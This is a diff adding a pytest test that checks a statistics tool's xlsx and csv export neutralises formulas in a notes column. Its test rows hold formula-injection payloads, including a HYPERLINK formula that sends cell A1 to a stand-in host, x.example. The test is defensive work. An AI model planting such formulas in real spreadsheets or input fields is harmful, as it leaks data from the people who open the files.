@@ -133,3 +133,32 @@ def test_missing_column_and_wrong_type(lushi: str, tmp_path: Path) -> None:
     txt.write_text("x", encoding="utf-8")
     res = invoke("import", str(txt), "--db", lushi)
     assert res.exit_code == 2 and "只支持 .csv 或 .xlsx" in res.stderr
+
+
+@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
+def test_export_neutralises_formulas_in_notes(lushi: str, tmp_path: Path, fmt: str) -> None:
+    rows = [
+        ["411224", "gdp", "2025", "1497000", "万元", "=1+1"],
+        ["411224", "air_good_days", "2025", "330", "天", '=HYPERLINK("http://x.example/?"&A1,"点击")'],
+        ["411224", "air_valid_days", "2025", "365", "", "@SUM(A1)"],
+    ]
+    f = write_csv(tmp_path / "in.csv", rows)
+    res = invoke("import", str(f), "--db", lushi, "--json")
+    assert res.exit_code == 0, res.output
+    out = tmp_path / f"out.{fmt}"
+    res = invoke("export", "--db", lushi, "--out", str(out), "--format", fmt)
+    assert res.exit_code == 0, res.output
+    if fmt == "xlsx":
+        ws = load_workbook(out).worksheets[0]
+        notes = {r[1].value: r[8] for r in ws.iter_rows(min_row=2)}
+        assert notes["gdp"].value == "=1+1" and notes["gdp"].data_type == "s"
+        assert all(c.data_type == "s" and c.quotePrefix for c in notes.values())
+        values = {r[1].value: r[4] for r in ws.iter_rows(min_row=2)}
+        assert values["gdp"].value == 1497000 and values["gdp"].data_type == "n"
+    else:
+        with out.open(encoding="utf-8-sig", newline="") as fh:
+            got = {r["item"]: r for r in csv.DictReader(fh)}
+        assert got["gdp"]["note"] == "'=1+1"
+        assert got["air_good_days"]["note"].startswith("'=HYPERLINK")
+        assert got["air_valid_days"]["note"] == "'@SUM(A1)"
+        assert got["gdp"]["value"] == "1497000.0" or got["gdp"]["value"] == "1497000"
